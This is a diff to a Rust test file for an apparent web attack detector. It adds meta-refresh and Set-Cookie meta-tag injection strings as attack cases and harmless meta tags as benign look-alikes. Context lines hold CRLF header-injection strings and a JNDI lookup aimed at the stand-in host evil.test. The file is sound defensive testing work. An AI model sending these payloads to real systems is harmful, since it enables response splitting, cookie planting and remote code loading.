@@ -17,6 +17,16 @@ fn attacks_of_each_family() {
         (Header, "foo\r\nX-Injected: 1", "injection_crlf"),
         (Query, "a\r\nHTTP/1.1 200 OK", "injection_crlf"),
         (Query, "test\rnext=more", "injection_crlf"),
+        (
+            Query,
+            "foo<meta http-equiv=\"Refresh\" content=\"0; url=http://x.test/\">",
+            "injection_crlf",
+        ),
+        (
+            Body,
+            "<META HTTP-EQUIV=Set-Cookie CONTENT=\"a=b\">",
+            "injection_crlf",
+        ),
         (Header, "${jndi:ldap://evil.test/a}", "injection_jndi"),
         (
             Query,
@@ -215,6 +225,11 @@ fn benign_look_alikes() {
     use Place::*;
     for (place, v) in [
         (Query, "https://partner.example.com/callback?state=1"),
+        (
+            Body,
+            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
+        ),
+        (Body, "the refresh meta tag (http-equiv) is deprecated"),
         (Query, "https://8.8.8.8.example.org/"),
         (Body, "Hello,\nName: Bob\nThanks"),
         (Body, "Hello,\nsize=large\nThanks"),
